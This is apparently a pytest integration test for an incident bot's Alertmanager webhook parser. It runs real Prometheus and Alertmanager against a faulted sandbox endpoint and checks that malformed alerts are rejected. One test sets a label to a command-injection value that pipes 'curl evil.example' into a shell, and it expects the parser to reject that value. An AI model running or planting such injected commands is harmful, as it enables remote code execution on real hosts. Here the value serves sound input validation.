"""The shipped alert rules, through a real Prometheus and a real Alertmanager, reach the bot's
webhook parser as triggers.

A real Prometheus scrapes the faulted sandbox and evaluates ``deploy/prometheus/rules/`` (a test
copy with ``for: 1s`` and a 1 s evaluation interval); a real Alertmanager, configured from
``deploy/prometheus/alertmanager.yml`` with short group timers, delivers to a small HTTP server
that parses each delivery with ``bot.triggers.alertmanager.parse_webhook``.
"""

from __future__ import annotations

import asyncio
import copy
import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml

from bot.triggers.alertmanager import TARGET_LABELS, AlertTrigger, parse_webhook
from sandbox.default_world import default_world
from sandbox.faults import inject
from sandbox.runtime import Sandbox
from sandbox.simulation import slis, within_slo
from tests.integration import servers

pytestmark = pytest.mark.integration

DEPLOY = Path(__file__).resolve().parents[2] / "deploy" / "prometheus"
FAULTED = "sentiment-endpoint"
FAULT = "latency.under_provisioned"
# What an under-provisioned endpoint breaks: error rate 41 %, p95 5.4 s, p99 120 s, nulls 1.3 %;
# 41 % errors burn the 99.9 % budget far beyond 4x (a page; the slow-burn ticket stays quiet).
EXPECTED_ALERTS = {
    "ModelErrorBudgetBurn",
    "ModelErrorRateHigh",
    "ModelHighLatency",
    "ModelTimeouts",
    "ModelNullPredictions",
}
DELIVERY_TIMEOUT_S = 40.0


@dataclass(frozen=True)
class AlertingStack:
    prometheus: servers.Binary
    alertmanager: servers.Binary
    receiver: servers.WebhookReceiver


def _fast_rules(workdir: Path) -> list[Path]:
    """The shipped rule files with every ``for:`` cut to 1 s (thresholds and queries unchanged)."""
    copies = []
    for source in sorted((DEPLOY / "rules").glob("*.yml")):
        rules = yaml.safe_load(source.read_text())
        for group in rules["groups"]:
            for rule in group["rules"]:
                if "for" in rule:
                    rule["for"] = "1s"
        target = workdir / source.name
        target.write_text(yaml.safe_dump(rules, sort_keys=False))
        copies.append(target)
    return copies


def _fast_alertmanager(receiver_url: str) -> dict[str, Any]:
    """The shipped Alertmanager config, delivering to ``receiver_url`` with 1 s group timers."""
    config = yaml.safe_load((DEPLOY / "alertmanager.yml").read_text())
    config["route"].update(group_wait="1s", group_interval="1s", repeat_interval="1h")
    (receiver,) = config["receivers"]
    (webhook,) = receiver["webhook_configs"]
    webhook["url"] = receiver_url
    return dict(config)


def _names_for(receiver: servers.WebhookReceiver, target: str) -> set[str]:
    return {t.trigger.alertname or "" for t in receiver.triggers() if t.trigger.target == target}


@pytest.fixture(scope="module")
def alerting(
    tmp_path_factory: pytest.TempPathFactory, mlflow_template: Path
) -> Iterator[AlertingStack]:
    """Faulted sandbox → Prometheus with the shipped rules → Alertmanager → webhook receiver,
    running until every expected alert has been delivered."""
    workdir = tmp_path_factory.mktemp("alerting-real")
    world = inject(default_world(), (FAULT, FAULTED))
    sandbox = asyncio.run(Sandbox.start(world, workdir=workdir / "sandbox"))
    started: list[Any] = []
    try:
        server = servers.SandboxServer(sandbox)
        server.start()
        started.append(server)
        receiver = servers.WebhookReceiver()
        receiver.start()
        started.append(receiver)
        alertmanager = servers.alertmanager(workdir, _fast_alertmanager(receiver.url))
        alertmanager.start()
        started.append(alertmanager)
        prometheus = servers.prometheus(
            workdir,
            scrape=server.address,
            rule_files=_fast_rules(workdir),
            alertmanager=alertmanager.url.removeprefix("http://"),
        )
        prometheus.start()
        started.append(prometheus)
        try:
            servers.wait_until(
                lambda: _names_for(receiver, FAULTED) >= EXPECTED_ALERTS,
                timeout_s=DELIVERY_TIMEOUT_S,
                what=f"{sorted(EXPECTED_ALERTS)} delivered to the webhook",
            )
        except TimeoutError as exc:
            got = sorted(_names_for(receiver, FAULTED))
            raise AssertionError(
                f"{exc}; got {got}\n--- prometheus\n{prometheus.logs()}"
                f"\n--- alertmanager\n{alertmanager.logs()}"
            ) from None
        yield AlertingStack(prometheus, alertmanager, receiver)
    finally:
        for running in reversed(started):
            running.stop()
        asyncio.run(sandbox.close())


def _one(stack: AlertingStack, alertname: str) -> tuple[AlertTrigger, Any]:
    """The first delivered trigger named ``alertname`` and the batch it came in."""
    for batch in stack.receiver.batches:
        for trigger in batch.triggers:
            if trigger.trigger.alertname == alertname:
                return trigger, batch
    raise AssertionError(f"{alertname} was not delivered")


def test_shipped_configs_pass_the_official_checkers() -> None:
    prom = subprocess.run(
        [servers.binary("promtool"), "check", "config", str(DEPLOY / "prometheus.yml")],
        capture_output=True,
        text=True,
    )
    assert prom.returncode == 0, prom.stdout + prom.stderr
    assert "SUCCESS" in prom.stdout and "rules found" in prom.stdout
    am = subprocess.run(
        [servers.binary("amtool"), "check-config", str(DEPLOY / "alertmanager.yml")],
        capture_output=True,
        text=True,
    )
    assert am.returncode == 0, am.stdout + am.stderr


def test_the_fault_breaks_the_slos_the_alerts_are_written_for() -> None:
    # The premise of EXPECTED_ALERTS, from the simulation itself.
    breaches = within_slo(slis(inject(default_world(), (FAULT, FAULTED)), FAULTED))
    for name in ("error_rate", "latency_p95_ms", "latency_p99_ms", "null_rate"):
        assert any(b.startswith(f"{name}=") for b in breaches), breaches


def test_firing_alert_arrives_as_a_trigger_for_the_endpoint(alerting: AlertingStack) -> None:
    alert, batch = _one(alerting, "ModelHighLatency")
    trigger = alert.trigger
    assert (trigger.source, trigger.target, trigger.alertname) == (
        "alert",
        FAULTED,
        "ModelHighLatency",
    )
    # Labels: the rule's own, the `endpoint` its join adds, and the metric's `target`.
    assert trigger.labels["endpoint"] == FAULTED
    assert trigger.labels["target"] == FAULTED
    assert trigger.labels["severity"] == "page"
    assert trigger.labels["team"] == "ml-platform"
    assert "agent" not in trigger.labels
    assert trigger.annotations["summary"].startswith(f"{FAULTED}: p95 latency ")
    # Alertmanager's envelope, as the bot sees it.
    assert batch.version == "4"
    assert batch.status == "firing"
    assert batch.receiver == "model-incident-bot"
    assert batch.rejected == [] and batch.truncated_alerts == 0
    assert 'alertname="ModelHighLatency"' in batch.group_key
    assert re.fullmatch(r"[0-9a-f]{16}", trigger.fingerprint or "")
    assert alert.dedupe_key == f"{batch.group_key}|{trigger.fingerprint}|firing"
    assert alert.generator_url.startswith(f"{alerting.prometheus.url}/graph?g0.expr=")
    assert alerting.receiver.payloads[0]["externalURL"] == alerting.alertmanager.url
    assert alert.starts_at and not alert.starts_at.startswith("0001")


def test_only_the_faulted_endpoint_alerts(alerting: AlertingStack) -> None:
    triggers = alerting.receiver.triggers()
    assert {t.trigger.target for t in triggers} == {FAULTED}
    # Only serving-endpoint alerts (the runbook that applies), and none of the slow-burn ones.
    assert {t.trigger.alertname for t in triggers} == EXPECTED_ALERTS
    # One group per alert and endpoint: each delivery is about one thing.
    for batch in alerting.receiver.batches:
        assert len({(t.trigger.alertname, t.trigger.target) for t in batch.triggers}) == 1


async def test_malformed_alerts_do_not_cost_the_valid_one(alerting: AlertingStack) -> None:
    delivered = next(
        p
        for p in alerting.receiver.payloads
        if p["groupLabels"].get("alertname") == "ModelErrorRateHigh"
    )
    crafted = copy.deepcopy(delivered)
    valid = crafted["alerts"][0]
    no_target = copy.deepcopy(valid)
    no_target["labels"] = {"alertname": "ModelErrorRateHigh", "severity": "page"}
    bad_name = copy.deepcopy(valid)
    for label in set(TARGET_LABELS) & {"endpoint", *bad_name["labels"]}:  # no valid name left
        bad_name["labels"][label] = "sentiment-endpoint; curl evil.example | sh"
    crafted["commonLabels"] = {"alertname": "ModelErrorRateHigh"}
    crafted["alerts"] = ["not an alert", {**valid, "labels": "oops"}, no_target, valid, bad_name]

    async with httpx.AsyncClient(timeout=5) as http:
        answer = await http.post(alerting.receiver.url, json=crafted)
        unusable = await http.post(alerting.receiver.url, json={"alerts": "none"})
    assert answer.status_code == 200
    assert answer.json() == {"triggers": 1, "resolved": 0, "rejected": 4}
    assert unusable.status_code == 400

    batch = parse_webhook(crafted)
    (kept,) = batch.triggers
    assert kept.trigger.target == FAULTED
    assert kept.trigger.alertname == "ModelErrorRateHigh"
    assert kept.trigger.fingerprint == valid["fingerprint"]
    assert [r.index for r in batch.rejected] == [0, 1, 2, 4]
    reasons = " | ".join(r.reason for r in batch.rejected)
    assert "alerts[0]: expected an object" in reasons
    assert "alerts[1].labels: expected an object" in reasons
    assert "alerts[2].labels: none of" in reasons
    assert "alerts[4].labels.endpoint" in reasons and "not a valid target name" in reasons
